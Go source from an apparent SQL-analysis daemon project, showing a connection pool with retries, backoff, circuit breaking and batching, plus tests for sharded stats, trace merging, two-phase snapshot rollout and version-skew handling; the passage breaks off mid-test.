	// With one shard dead, the merge degrades to the survivors and marks
	// the dead shard.
	kill0()
	st, err = sp.Stats()
	if err != nil {
		t.Fatalf("stats with one dead shard: %v", err)
	}
	if st.Shards[0].Err == "" {
		t.Error("dead shard not marked unreachable in merged stats")
	}
	if st.Checks != 1 {
		t.Errorf("survivor-only merge checks = %d, want 1", st.Checks)
	}

	// Format renders the per-shard lines without panicking.
	if out := st.Format(); !strings.Contains(out, addr1) {
		t.Errorf("Format lost shard health:\n%s", out)
	}
}

func TestShardedPoolTracesMerge(t *testing.T) {
	tr0 := trace.New(trace.Config{SampleEvery: 1})
	tr1 := trace.New(trace.Config{SampleEvery: 1})
	addr0, _, _ := startShardServer(t, WithTracer(tr0))
	addr1, _, _ := startShardServer(t, WithTracer(tr1))
	sp, err := DialShardedPool([]string{addr0, addr1}, fastShardConfig())
	if err != nil {
		t.Fatal(err)
	}
	defer sp.Close()
	perShard := queriesForShards(t, sp)
	for _, q := range perShard {
		if _, err := sp.Analyze(q); err != nil {
			t.Fatal(err)
		}
	}
	dump, err := sp.Traces()
	if err != nil {
		t.Fatal(err)
	}
	if dump.Started != 2 || dump.Finished != 2 {
		t.Errorf("merged trace counters started=%d finished=%d, want 2/2", dump.Started, dump.Finished)
	}
	if len(dump.Recent) != 2 {
		t.Errorf("merged recent ring has %d spans, want 2", len(dump.Recent))
	}
}

func TestShardedPoolConfigErrors(t *testing.T) {
	if _, err := NewShardedPool(nil); err == nil {
		t.Error("zero shards must error")
	}
	p := NewPool(func() (net.Conn, error) { return nil, errors.New("nope") }, PoolConfig{})
	defer p.Close()
	if _, err := NewShardedPool([]*Pool{p}, WithShardNames([]string{"a", "b"})); err == nil {
		t.Error("name/shard count mismatch must error")
	}
}

// TestHybridClientShardedMetrics: a HybridClient over a ShardedPool folds
// per-shard health into its Metrics snapshot.
func TestHybridClientShardedMetrics(t *testing.T) {
	addr0, _, _ := startShardServer(t)
	addr1, _, _ := startShardServer(t)
	sp, err := DialShardedPool([]string{addr0, addr1}, fastShardConfig())
	if err != nil {
		t.Fatal(err)
	}
	h := NewHybridClient(sp, nti.MustNew(), core.PolicyTerminate)
	defer h.Close()
	if _, err := h.Check(benignQuery, nil); err != nil {
		t.Fatal(err)
	}
	snap := h.Metrics()
	if snap.Checks != 1 {
		t.Errorf("checks = %d, want 1", snap.Checks)
	}
	if len(snap.Shards) != 2 {
		t.Fatalf("hybrid metrics carry %d shard healths, want 2", len(snap.Shards))
	}
	if snap.Shards[0].Shard != addr0 || snap.Shards[1].Shard != addr1 {
		t.Errorf("shard names = %+v", snap.Shards)
	}
}
