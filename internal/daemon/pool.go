package daemon

import (
	"context"
	"errors"
	"fmt"
	"math/rand/v2"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"joza/internal/guardrail"
	"joza/internal/sqltoken"
)

// ErrUnavailable wraps the last transport failure after a pooled request
// has exhausted its reconnection attempts: the daemon is down or
// unreachable. HybridClient's degradation policy decides what a check
// does when it surfaces.
var ErrUnavailable = errors.New("daemon: unavailable")

// ErrPoolClosed is returned for requests issued after Pool.Close.
var ErrPoolClosed = errors.New("daemon: pool closed")

// PoolConfig tunes a connection pool. The zero value selects the default
// noted on each field.
type PoolConfig struct {
	// Size is the number of pooled connections — the pool's request
	// concurrency (default 4). Requests beyond Size in flight wait for a
	// free connection instead of serializing on a single one.
	Size int
	// Timeout bounds one request round trip, send to receive (default
	// 2s). A connection that misses its deadline is discarded: its reply
	// may still arrive later, and a later request must never read it.
	Timeout time.Duration
	// DialTimeout bounds one dial (default: Timeout).
	DialTimeout time.Duration
	// MaxAttempts is how many connections one request may try — the
	// first plus replacements — before reporting ErrUnavailable
	// (default 3).
	MaxAttempts int
	// BackoffMin and BackoffMax bound the jittered exponential delay
	// between reconnection attempts (defaults 10ms and 1s).
	BackoffMin time.Duration
	BackoffMax time.Duration
	// BreakerThreshold enables a client-side circuit breaker layered under
	// the per-request retries: after that many consecutive requests end
	// unavailable, further requests fail immediately (wrapped in
	// ErrUnavailable, so the degradation policy applies) instead of each
	// burning MaxAttempts dial timeouts against a dead daemon. After
	// BreakerCooldown one probe request is let through; its outcome closes
	// or re-opens the breaker. Zero (the default) disables the breaker.
	BreakerThreshold int
	// BreakerCooldown is how long the breaker stays open before probing
	// (default 1s).
	BreakerCooldown time.Duration
	// BatchSize opts into the client-side micro-batcher: concurrent
	// AnalyzeContext calls are coalesced into one "batch" wire frame of up
	// to this many items, amortizing the round trip across them. Values
	// below 2 (the default) leave every call its own round trip. Requires
	// a server that speaks the "batch" verb.
	BatchSize int
	// BatchLinger is how long the first call in a forming batch waits for
	// companions before a partial batch is flushed (default 500µs). Only
	// meaningful with BatchSize; it is the latency ceiling batching may
	// add to an isolated call.
	BatchLinger time.Duration
	// Dialect is the SQL dialect stamped on the pool's analyze and batch
	// frames, so a daemon serving a different dialect refuses them instead
	// of mis-lexing. The zero value is MySQL, which is omitted from the
	// wire — default-dialect frames stay byte-identical to the pre-dialect
	// protocol and old servers keep working.
	Dialect sqltoken.Dialect
}

func (cfg PoolConfig) withDefaults() PoolConfig {
	if cfg.Size <= 0 {
		cfg.Size = 4
	}
	if cfg.Timeout <= 0 {
		cfg.Timeout = 2 * time.Second
	}
	if cfg.DialTimeout <= 0 {
		cfg.DialTimeout = cfg.Timeout
	}
	if cfg.MaxAttempts <= 0 {
		cfg.MaxAttempts = 3
	}
	if cfg.BackoffMin <= 0 {
		cfg.BackoffMin = 10 * time.Millisecond
	}
	if cfg.BackoffMax <= 0 {
		cfg.BackoffMax = time.Second
	}
	if cfg.BackoffMax < cfg.BackoffMin {
		cfg.BackoffMax = cfg.BackoffMin
	}
	return cfg
}

// Pool is a Remote transport over a fixed-size set of connections:
// concurrent Analyze calls proceed in parallel instead of serializing on
// one connection's mutex, every round trip carries a deadline, and failed
// connections are replaced with jittered exponential backoff. Dialing is
// lazy, so a pool can be built while the daemon is still coming up — and
// a daemon restart heals on the next request instead of poisoning the
// transport.
type Pool struct {
	dial func() (net.Conn, error)
	cfg  PoolConfig
	// slots holds the pool's connections; a nil entry is an empty slot
	// dialed on first use or after its connection broke.
	slots   chan *Client
	done    chan struct{}
	once    sync.Once
	breaker *guardrail.Breaker
	// batch is the opt-in micro-batcher (nil unless cfg.BatchSize >= 2);
	// when set, AnalyzeContext coalesces through it.
	batch *batcher

	dials     atomic.Uint64
	exhausted atomic.Uint64
}

var _ Transport = (*Pool)(nil)

// DialPool returns a pool of connections to a daemon at a TCP address.
func DialPool(addr string, cfg PoolConfig) *Pool {
	c := cfg.withDefaults()
	return NewPool(func() (net.Conn, error) {
		return net.DialTimeout("tcp", addr, c.DialTimeout)
	}, c)
}

// NewPool builds a pool over an arbitrary dialer (pipes, unix sockets,
// test fault injectors).
func NewPool(dial func() (net.Conn, error), cfg PoolConfig) *Pool {
	cfg = cfg.withDefaults()
	p := &Pool{
		dial:    dial,
		cfg:     cfg,
		slots:   make(chan *Client, cfg.Size),
		done:    make(chan struct{}),
		breaker: guardrail.NewBreaker(cfg.BreakerThreshold, cfg.BreakerCooldown),
	}
	for i := 0; i < cfg.Size; i++ {
		p.slots <- nil
	}
	if cfg.BatchSize >= 2 {
		p.batch = newBatcher(p, cfg.BatchSize, cfg.BatchLinger)
	}
	return p
}

// Dials returns how many connections the pool has established; a value
// above Size means broken connections have been replaced.
func (p *Pool) Dials() uint64 { return p.dials.Load() }

// Exhausted returns how many requests gave up after MaxAttempts
// connections failed (each surfaced as ErrUnavailable).
func (p *Pool) Exhausted() uint64 { return p.exhausted.Load() }

// do runs one request through the circuit breaker and the connection
// pool, reporting the outcome back to the breaker: success or a healthy-
// stream daemon error closes it, an unavailable transport extends the
// failure streak, and a context or pool-closed abort is evidence of
// neither.
func (p *Pool) do(ctx context.Context, req wireRequest) (wireResponse, error) {
	if err := p.breaker.Allow(); err != nil {
		return wireResponse{}, fmt.Errorf("%w: %v", ErrUnavailable, err)
	}
	resp, err := p.roundTrips(ctx, req)
	switch {
	case err == nil:
		p.breaker.Success()
	case errors.Is(err, ErrUnavailable):
		p.breaker.Failure()
	case errors.Is(err, ErrPoolClosed), errors.Is(err, context.Canceled), errors.Is(err, context.DeadlineExceeded):
		p.breaker.Cancel()
	default:
		// A daemon-level error on a healthy stream (unknown verb, shed by
		// admission control, over budget): the transport itself works.
		p.breaker.Success()
	}
	return resp, err
}

// BreakerStats snapshots the pool's circuit breaker ("disabled" when
// BreakerThreshold is zero). HybridClient folds it into Metrics.
func (p *Pool) BreakerStats() guardrail.BreakerStats { return p.breaker.Stats() }

// roundTrips runs one request over a pooled connection, replacing broken
// connections with backoff, up to MaxAttempts. ctx bounds the whole
// request: waiting for a free slot, each round trip, and the backoff
// sleeps between attempts all abort with ctx's error.
func (p *Pool) roundTrips(ctx context.Context, req wireRequest) (wireResponse, error) {
	var slot *Client
	select {
	case slot = <-p.slots:
	case <-p.done:
		return wireResponse{}, ErrPoolClosed
	case <-ctx.Done():
		return wireResponse{}, ctx.Err()
	}
	// Always return the slot — nil after a failure, so the next request
	// redials lazily. Close drains exactly Size slots and closes whatever
	// connections it receives, so a request finishing late hands its
	// connection to Close rather than leaking it.
	defer func() { p.slots <- slot }()
	var lastErr error
	backoff := p.cfg.BackoffMin
	for attempt := 0; attempt < p.cfg.MaxAttempts; attempt++ {
		if attempt > 0 {
			select {
			case <-time.After(jitter(backoff)):
			case <-p.done:
				return wireResponse{}, ErrPoolClosed
			case <-ctx.Done():
				return wireResponse{}, ctx.Err()
			}
			if backoff *= 2; backoff > p.cfg.BackoffMax {
				backoff = p.cfg.BackoffMax
			}
		}
		if slot == nil || slot.Broken() {
			conn, err := p.dial()
			if err != nil {
				slot = nil
				lastErr = err
				continue
			}
			p.dials.Add(1)
			slot = NewClient(conn)
			slot.SetTimeout(p.cfg.Timeout)
		}
		resp, err := slot.roundTrip(ctx, req)
		if err == nil {
			return resp, nil
		}
		if cerr := ctx.Err(); cerr != nil {
			// The caller's context ended; replacing the connection and
			// retrying would only serve a request nobody waits for.
			return wireResponse{}, cerr
		}
		lastErr = err
		if !slot.Broken() {
			// A daemon-level error on a healthy stream (e.g. an unknown
			// verb): not a transport fault, so retrying won't change it.
			return wireResponse{}, err
		}
		slot = nil
	}
	p.exhausted.Add(1)
	return wireResponse{}, fmt.Errorf("%w after %d attempts: %v", ErrUnavailable, p.cfg.MaxAttempts, lastErr)
}

// jitter spreads a retry delay uniformly over [d/2, d) so clients that
// lost their connections together don't reconnect in lockstep.
func jitter(d time.Duration) time.Duration {
	if d <= 1 {
		return d
	}
	half := d / 2
	return half + rand.N(half)
}

// Analyze implements Transport.
func (p *Pool) Analyze(query string) (*AnalysisReply, error) {
	return p.AnalyzeContext(context.Background(), query)
}

// AnalyzeContext implements Transport: ctx bounds slot acquisition, the
// round trip and retry backoff, and the remaining deadline budget is
// forwarded to the server in the request. With BatchSize configured, the
// call instead joins the micro-batcher: concurrent calls coalesce into one
// batch frame, ctx still bounds this caller's wait, and the item's budget
// still rides to the server.
func (p *Pool) AnalyzeContext(ctx context.Context, query string) (*AnalysisReply, error) {
	return p.analyzeReq(ctx, withTimeoutBudget(ctx, wireRequest{Query: query, Dialect: wireDialect(p.cfg.Dialect)}))
}

// AnalyzeSiteContext implements siteTransport: AnalyzeContext with the
// call-site identity in the request so the server runs the query-skeleton
// profile stage. Site-carrying requests coalesce through the micro-batcher
// like any other — the site rides in the batch item.
func (p *Pool) AnalyzeSiteContext(ctx context.Context, site, query string) (*AnalysisReply, error) {
	return p.analyzeReq(ctx, withTimeoutBudget(ctx, wireRequest{Query: query, Site: site, Dialect: wireDialect(p.cfg.Dialect)}))
}

func (p *Pool) analyzeReq(ctx context.Context, req wireRequest) (*AnalysisReply, error) {
	if p.batch != nil {
		return p.batch.analyze(ctx, req)
	}
	resp, err := p.do(ctx, req)
	if err != nil {
		return nil, err
	}
	if resp.Reply == nil {
		return nil, errors.New("daemon: analyze verb returned no payload")
	}
	return resp.Reply, nil
}

// Prepare drives the daemon's rollout phase one through the pool (see
// Client.Prepare).
func (p *Pool) Prepare(ctx context.Context) (*RolloutReply, error) {
	return p.rolloutReq(ctx, wireRequest{Op: "prepare"})
}

// Commit drives the daemon's rollout phase two through the pool (see
// Client.Commit). A non-empty version pins which staged snapshot may swap.
func (p *Pool) Commit(ctx context.Context, version string) (*RolloutReply, error) {
	return p.rolloutReq(ctx, wireRequest{Op: "commit", Version: version})
}

// Abort discards the daemon's staged snapshot through the pool. Idempotent.
func (p *Pool) Abort(ctx context.Context) (*RolloutReply, error) {
	return p.rolloutReq(ctx, wireRequest{Op: "abort"})
}

func (p *Pool) rolloutReq(ctx context.Context, req wireRequest) (*RolloutReply, error) {
	resp, err := p.do(ctx, req)
	if err != nil {
		return nil, err
	}
	if resp.Rollout == nil {
		return nil, fmt.Errorf("daemon: %s verb returned no payload", req.Op)
	}
	return resp.Rollout, nil
}

// Stats fetches the daemon's counter snapshot through the pool.
func (p *Pool) Stats() (*StatsReply, error) {
	resp, err := p.do(context.Background(), wireRequest{Op: "stats"})
	if err != nil {
		return nil, err
	}
	if resp.Stats == nil {
		return nil, errors.New("daemon: stats verb returned no payload")
	}
	return resp.Stats, nil
}

// Traces fetches the daemon's trace rings through the pool.
func (p *Pool) Traces() (*TracesReply, error) {
	resp, err := p.do(context.Background(), wireRequest{Op: "traces"})
	if err != nil {
		return nil, err
	}
	if resp.Traces == nil {
		return nil, errors.New("daemon: traces verb returned no payload")
	}
	return resp.Traces, nil
}

// Close implements Transport: it fails pending waiters, then reclaims and
// closes all Size connections, waiting for in-flight requests to hand
// theirs back (each is bounded by its deadline and aborts its backoff
// sleeps once the pool is closed).
func (p *Pool) Close() error {
	var err error
	p.once.Do(func() {
		close(p.done)
		for i := 0; i < p.cfg.Size; i++ {
			if c := <-p.slots; c != nil {
				if cerr := c.Close(); cerr != nil && err == nil {
					err = cerr
				}
			}
		}
	})
	return err
}
