package daemon

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"net"
	"strings"
	"sync"
	"testing"
	"time"

	"joza/internal/profile"
	"joza/internal/sqltoken"
	"joza/internal/trace"
)

func testServing(version string) *Serving {
	return &Serving{Analyzer: newAnalyzer(), Version: version}
}

func staticReloader(sv *Serving, err error) func(context.Context) (*Serving, error) {
	return func(context.Context) (*Serving, error) { return sv, err }
}

// TestRolloutVerbsSingleDaemon drives the two-phase verbs end to end on
// one daemon: commit with nothing staged is refused, prepare stages
// without touching the serving snapshot, a wrong version pin is refused
// with the staged bundle kept, the right pin swaps it in, and abort is
// idempotent. Every refusal rides the healthy stream — the same
// connection keeps serving.
func TestRolloutVerbsSingleDaemon(t *testing.T) {
	next := testServing("bbbbbbbbbbbbbbbb")
	addr, srv, _ := startShardServer(t,
		WithServing(testServing("aaaaaaaaaaaaaaaa")),
		WithReloader(staticReloader(next, nil)),
	)
	c, err := Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	ctx := context.Background()

	if _, err := c.Commit(ctx, ""); err == nil || !strings.Contains(err.Error(), "nothing staged") {
		t.Fatalf("commit before prepare: got %v, want nothing-staged refusal", err)
	}
	r, err := c.Prepare(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if r.State != "staged" || r.Version != next.Version {
		t.Fatalf("prepare reply = %+v", r)
	}
	if got := srv.Version(); got != "aaaaaaaaaaaaaaaa" {
		t.Fatalf("prepare must not swap the serving snapshot; serving %q", got)
	}
	if _, err := c.Commit(ctx, "0000000000000000"); err == nil || !strings.Contains(err.Error(), "staged snapshot is") {
		t.Fatalf("wrong version pin: got %v, want refusal", err)
	}
	r, err = c.Commit(ctx, next.Version)
	if err != nil {
		t.Fatal(err)
	}
	if r.State != "committed" || r.Version != next.Version {
		t.Fatalf("commit reply = %+v", r)
	}
	if got := srv.Version(); got != next.Version {
		t.Fatalf("serving version after commit = %q, want %q", got, next.Version)
	}
	reply, err := c.Analyze(benignQuery)
	if err != nil {
		t.Fatal(err)
	}
	if reply.Version != next.Version {
		t.Fatalf("reply version = %q, want %q", reply.Version, next.Version)
	}
	// Abort with nothing staged still succeeds (idempotent cleanup).
	r, err = c.Abort(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if r.State != "aborted" {
		t.Fatalf("abort reply = %+v", r)
	}
}

// TestPrepareRefusalsKeepServing covers the prepare failure modes: no
// reloader configured, a reloader error, and a bundle that fails its
// self-test (nil analyzer; a profile store trained under another
// dialect, the corrupt-store case). None of them may disturb the serving
// snapshot or the connection, and none may leave anything staged.
func TestPrepareRefusalsKeepServing(t *testing.T) {
	pgStore := profile.NewRecorderDialect(sqltoken.Postgres).Store()
	cases := []struct {
		name    string
		opts    []ServerOption
		wantErr string
	}{
		{"no reloader", nil, "no reloader"},
		{
			"reloader error",
			[]ServerOption{WithReloader(staticReloader(nil, errors.New("source tree unreadable")))},
			"source tree unreadable",
		},
		{
			"nil analyzer",
			[]ServerOption{WithReloader(staticReloader(&Serving{}, nil))},
			"no analyzer",
		},
		{
			"corrupt store",
			[]ServerOption{WithReloader(staticReloader(&Serving{Analyzer: newAnalyzer(), Profiles: pgStore}, nil))},
			"dialect",
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			opts := append([]ServerOption{WithServing(testServing("aaaaaaaaaaaaaaaa"))}, tc.opts...)
			addr, srv, _ := startShardServer(t, opts...)
			c, err := Dial(addr)
			if err != nil {
				t.Fatal(err)
			}
			defer c.Close()
			ctx := context.Background()
			if _, err := c.Prepare(ctx); err == nil || !strings.Contains(err.Error(), tc.wantErr) {
				t.Fatalf("prepare: got %v, want error containing %q", err, tc.wantErr)
			}
			if got := srv.Version(); got != "aaaaaaaaaaaaaaaa" {
				t.Fatalf("serving snapshot disturbed: %q", got)
			}
			if _, err := c.Commit(ctx, ""); err == nil || !strings.Contains(err.Error(), "nothing staged") {
				t.Fatalf("failed prepare left state staged: commit returned %v", err)
			}
			if _, err := c.Analyze(benignQuery); err != nil {
				t.Fatalf("connection unhealthy after refusals: %v", err)
			}
		})
	}
}

// TestVersionPinRefusedOnHealthyStream sends raw wire frames so the pin
// semantics are tested at the protocol level: a request pinned to a
// version the daemon does not serve is refused with an error reply — not
// a dropped connection — for single analyzes and per item inside batches
// (where the frame-level pin defaults onto items), and the same
// connection then serves an unpinned and a correctly pinned request.
func TestVersionPinRefusedOnHealthyStream(t *testing.T) {
	const version = "cccccccccccccccc"
	addr, _, _ := startShardServer(t, WithServing(testServing(version)))
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	dec := json.NewDecoder(bufio.NewReader(conn))
	send := func(frame string) wireResponse {
		t.Helper()
		if _, err := conn.Write([]byte(frame + "\n")); err != nil {
			t.Fatal(err)
		}
		var resp wireResponse
		if err := dec.Decode(&resp); err != nil {
			t.Fatalf("connection broke after %s: %v", frame, err)
		}
		return resp
	}

	resp := send(`{"op":"analyze","query":"` + benignQuery + `","version":"bogus"}`)
	if !strings.Contains(resp.Err, "version mismatch") {
		t.Fatalf("pinned to bogus version: err = %q, want version mismatch", resp.Err)
	}
	resp = send(`{"op":"batch","version":"bogus","batch":[{"query":"` + benignQuery + `"},{"query":"` + benignQuery + `","version":"` + version + `"}]}`)
	if resp.Err != "" {
		t.Fatalf("batch with stale frame pin refused whole: %q", resp.Err)
	}
	if len(resp.Batch) != 2 {
		t.Fatalf("batch replies = %d, want 2", len(resp.Batch))
	}
	if !strings.Contains(resp.Batch[0].Err, "version mismatch") {
		t.Fatalf("item inheriting the frame pin: err = %q", resp.Batch[0].Err)
	}
	if resp.Batch[1].Err != "" || resp.Batch[1].Reply == nil {
		t.Fatalf("item overriding with the right pin should pass: %+v", resp.Batch[1])
	}
	resp = send(`{"query":"` + benignQuery + `"}`)
	if resp.Err != "" || resp.Reply == nil {
		t.Fatalf("unpinned request after refusals: %+v", resp)
	}
	if resp.Reply.Version != version {
		t.Fatalf("reply version = %q, want %q", resp.Reply.Version, version)
	}
	resp = send(`{"query":"` + benignQuery + `","version":"` + version + `"}`)
	if resp.Err != "" || resp.Reply == nil {
		t.Fatalf("correctly pinned request: %+v", resp)
	}
}

// TestVersionlessWireInteropByteIdentical pins the interop contract with
// pre-versioning peers: a daemon with no snapshot version emits reply
// frames containing no version (or rollout) field at all, so an old
// client reading new frames and a new client reading old frames see the
// same bytes they always did.
func TestVersionlessWireInteropByteIdentical(t *testing.T) {
	addr, _, _ := startShardServer(t) // plain NewServer: unversioned
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if _, err := conn.Write([]byte(`{"query":"` + benignQuery + `"}` + "\n")); err != nil {
		t.Fatal(err)
	}
	line, err := bufio.NewReader(conn).ReadString('\n')
	if err != nil {
		t.Fatal(err)
	}
	for _, field := range []string{`"version"`, `"rollout"`} {
		if strings.Contains(line, field) {
			t.Errorf("unversioned reply frame leaks %s: %s", field, line)
		}
	}
}

// TestRolloutConvergesFleet is the happy path: every shard stages the
// same version, the coordinator commits fleet-wide, and afterwards every
// daemon serves the new version, which is also the client's notion of the
// fleet's current one.
func TestRolloutConvergesFleet(t *testing.T) {
	const next = "dddddddddddddddd"
	var srvs []*Server
	var addrs []string
	for i := 0; i < 3; i++ {
		addr, srv, _ := startShardServer(t,
			WithServing(testServing("aaaaaaaaaaaaaaaa")),
			WithReloader(staticReloader(testServing(next), nil)),
		)
		addrs = append(addrs, addr)
		srvs = append(srvs, srv)
	}
	sp, err := DialShardedPool(addrs, fastShardConfig())
	if err != nil {
		t.Fatal(err)
	}
	defer sp.Close()

	report, err := sp.Rollout(context.Background())
	if err != nil {
		t.Fatalf("rollout: %v (report %+v)", err, report)
	}
	if report.Version != next {
		t.Fatalf("report version = %q, want %q", report.Version, next)
	}
	for _, sh := range report.Shards {
		if sh.State != "committed" || sh.Version != next {
			t.Fatalf("shard %s = %+v, want committed at %s", sh.Shard, sh, next)
		}
	}
	for i, srv := range srvs {
		if got := srv.Version(); got != next {
			t.Fatalf("shard %d serves %q after rollout, want %q", i, got, next)
		}
	}
	if got := sp.CurrentVersion(); got != next {
		t.Fatalf("CurrentVersion = %q, want %q", got, next)
	}
	for _, q := range queriesForShards(t, sp) {
		reply, err := sp.Analyze(q)
		if err != nil {
			t.Fatal(err)
		}
		if reply.Version != next {
			t.Fatalf("post-rollout reply version = %q", reply.Version)
		}
	}
}

// TestRolloutFailedPrepareAbortsFleet: one shard cannot build the next
// generation (its profile store is corrupt), so nothing commits anywhere —
// the healthy shard's staged state is aborted, every shard keeps serving
// the old version, and checks keep flowing.
func TestRolloutFailedPrepareAbortsFleet(t *testing.T) {
	const old = "aaaaaaaaaaaaaaaa"
	pgStore := profile.NewRecorderDialect(sqltoken.Postgres).Store()
	addr0, srv0, _ := startShardServer(t,
		WithServing(testServing(old)),
		WithReloader(staticReloader(testServing("eeeeeeeeeeeeeeee"), nil)),
	)
	addr1, srv1, _ := startShardServer(t,
		WithServing(testServing(old)),
		WithReloader(staticReloader(&Serving{Analyzer: newAnalyzer(), Profiles: pgStore, Version: "eeeeeeeeeeeeeeee"}, nil)),
	)
	sp, err := DialShardedPool([]string{addr0, addr1}, fastShardConfig())
	if err != nil {
		t.Fatal(err)
	}
	defer sp.Close()

	report, err := sp.Rollout(context.Background())
	if err == nil || !strings.Contains(err.Error(), "rollout aborted") {
		t.Fatalf("rollout: got %v, want abort", err)
	}
	for i, srv := range []*Server{srv0, srv1} {
		if got := srv.Version(); got != old {
			t.Fatalf("shard %d serves %q after aborted rollout, want %q kept", i, got, old)
		}
	}
	// The healthy shard's staged bundle was discarded, not left to be
	// committed by a later confused coordinator.
	states := map[string]string{}
	for _, sh := range report.Shards {
		states[sh.Shard] = sh.State
	}
	if states[addr0] != "aborted" {
		t.Fatalf("healthy shard state = %q, want aborted (report %+v)", states[addr0], report)
	}
	if states[addr1] != "failed" {
		t.Fatalf("corrupt shard state = %q, want failed", states[addr1])
	}
	for _, q := range queriesForShards(t, sp) {
		if _, err := sp.Analyze(q); err != nil {
			t.Fatalf("fleet shed a check after contained abort: %v", err)
		}
	}
}

// TestRolloutStagedDivergenceAborts: shards staging different versions
// means their source trees diverged (a half-synced deploy); committing
// would permanently mix generations, so the whole fleet aborts and keeps
// its old snapshot.
func TestRolloutStagedDivergenceAborts(t *testing.T) {
	const old = "aaaaaaaaaaaaaaaa"
	addr0, srv0, _ := startShardServer(t,
		WithServing(testServing(old)),
		WithReloader(staticReloader(testServing("ffffffffffffffff"), nil)),
	)
	addr1, srv1, _ := startShardServer(t,
		WithServing(testServing(old)),
		WithReloader(staticReloader(testServing("9999999999999999"), nil)),
	)
	sp, err := DialShardedPool([]string{addr0, addr1}, fastShardConfig())
	if err != nil {
		t.Fatal(err)
	}
	defer sp.Close()

	report, err := sp.Rollout(context.Background())
	if err == nil || !strings.Contains(err.Error(), "diverge") {
		t.Fatalf("rollout: got %v, want divergence abort", err)
	}
	for i, srv := range []*Server{srv0, srv1} {
		if got := srv.Version(); got != old {
			t.Fatalf("shard %d serves %q, want %q kept", i, got, old)
		}
	}
	for _, sh := range report.Shards {
		if sh.State != "aborted" {
			t.Fatalf("shard %s state = %q, want aborted", sh.Shard, sh.State)
		}
	}
}

// TestRolloutPartialCommitKeepsCommitted simulates a shard dying between
// prepare and commit (its process is killed inside the commit window):
// the shard that already committed keeps serving the new self-tested
// generation, the coordinator reports the partial outcome, and the
// survivor's keyspace never sheds.
func TestRolloutPartialCommitKeepsCommitted(t *testing.T) {
	const old, next = "aaaaaaaaaaaaaaaa", "1111111111111111"
	addr0, srv0, _ := startShardServer(t,
		WithServing(testServing(old)),
		WithReloader(staticReloader(testServing(next), nil)),
	)
	var (
		killOnce sync.Once
		srv1     *Server
	)
	hook := func(phase string) {
		if phase != "commit" {
			return
		}
		// Kill the daemon inside the commit window, before its reply can
		// reach the coordinator. Close blocks on this very handler, so it
		// must run async while the handler holds the window open.
		killOnce.Do(func() { go srv1.Close() })
		time.Sleep(300 * time.Millisecond)
	}
	addr1, s1, _ := startShardServer(t,
		WithServing(testServing(old)),
		WithReloader(staticReloader(testServing(next), nil)),
		WithRolloutHook(hook),
	)
	srv1 = s1
	sp, err := DialShardedPool([]string{addr0, addr1}, fastShardConfig())
	if err != nil {
		t.Fatal(err)
	}
	defer sp.Close()

	report, err := sp.Rollout(context.Background())
	if err == nil || !strings.Contains(err.Error(), "committed on 1/2 shards") {
		t.Fatalf("rollout: got %v, want partial-commit error", err)
	}
	if got := srv0.Version(); got != next {
		t.Fatalf("committed shard rolled back to %q, want %q kept", got, next)
	}
	states := map[string]ShardRollout{}
	for _, sh := range report.Shards {
		states[sh.Shard] = sh
	}
	if states[addr0].State != "committed" {
		t.Fatalf("survivor state = %+v, want committed", states[addr0])
	}
	if states[addr1].State != "failed" {
		t.Fatalf("killed shard state = %+v, want failed", states[addr1])
	}
	// The fleet's current version is the committed one; the survivor keeps
	// serving its keyspace.
	if got := sp.CurrentVersion(); got != next {
		t.Fatalf("CurrentVersion = %q, want %q", got, next)
	}
	for _, q := range queriesForShards(t, sp) {
		if sp.Owner(q) != 0 {
			continue
		}
		if _, err := sp.Analyze(q); err != nil {
			t.Fatalf("survivor shed a check after partial commit: %v", err)
		}
	}
}

// TestSkewWarnCountsAndTracesStaleVerdicts: under the default policy a
// shard still answering from the superseded version keeps serving, but
// every stale verdict is counted in its StaleServed and captured as a
// notable trace span naming both versions.
func TestSkewWarnCountsAndTracesStaleVerdicts(t *testing.T) {
	const v1, v2 = "aaaaaaaaaaaaaaaa", "2222222222222222"
	addr0, srv0, _ := startShardServer(t, WithServing(testServing(v1)))
	addr1, _, _ := startShardServer(t, WithServing(testServing(v1)))
	tracer := trace.New(trace.Config{SampleEvery: 1, RingSize: 8})
	sp, err := DialShardedPool([]string{addr0, addr1}, fastShardConfig(), WithSkewTracer(tracer))
	if err != nil {
		t.Fatal(err)
	}
	defer sp.Close()
	qs := queriesForShards(t, sp)
	for _, q := range qs {
		if _, err := sp.Analyze(q); err != nil {
			t.Fatal(err)
		}
	}
	// Shard 0 commits the new generation; observing its transition makes
	// v2 current and shard 1's v1 verdicts stale.
	srv0.SetServing(testServing(v2))
	if _, err := sp.Analyze(qs[0]); err != nil {
		t.Fatal(err)
	}
	if got := sp.CurrentVersion(); got != v2 {
		t.Fatalf("CurrentVersion after transition = %q, want %q", got, v2)
	}
	reply, err := sp.Analyze(qs[1])
	if err != nil {
		t.Fatalf("SkewWarn must serve the stale verdict: %v", err)
	}
	if reply.Version != v1 {
		t.Fatalf("stale reply version = %q", reply.Version)
	}
	health := sp.ShardStats()
	if health[1].StaleServed != 1 {
		t.Fatalf("stale shard StaleServed = %d, want 1", health[1].StaleServed)
	}
	if health[0].StaleServed != 0 {
		t.Fatalf("current shard StaleServed = %d, want 0", health[0].StaleServed)
	}
	if health[0].Version != v2 || health[1].Version != v1 {
		t.Fatalf("shard versions = %q, %q", health[0].Version, health[1].Version)
	}
	dump := tracer.Dump()
	if len(dump.Notable) != 1 {
		t.Fatalf("notable spans = %d, want 1", len(dump.Notable))
	}
	skew := dump.Notable[0].VersionSkew
	if !strings.Contains(skew, v1) || !strings.Contains(skew, v2) {
		t.Fatalf("skew span detail %q should name both versions", skew)
	}
}

// TestSkewRefuseMixedRefusesPerCheck: under SkewRefuseMixed a stale
// shard's verdicts are refused with ErrVersionSkew on the healthy stream —
// per item inside batches — while the current shard's checks flow.
func TestSkewRefuseMixedRefusesPerCheck(t *testing.T) {
	const v1, v2 = "aaaaaaaaaaaaaaaa", "3333333333333333"
	addr0, srv0, _ := startShardServer(t, WithServing(testServing(v1)))
	addr1, _, _ := startShardServer(t, WithServing(testServing(v1)))
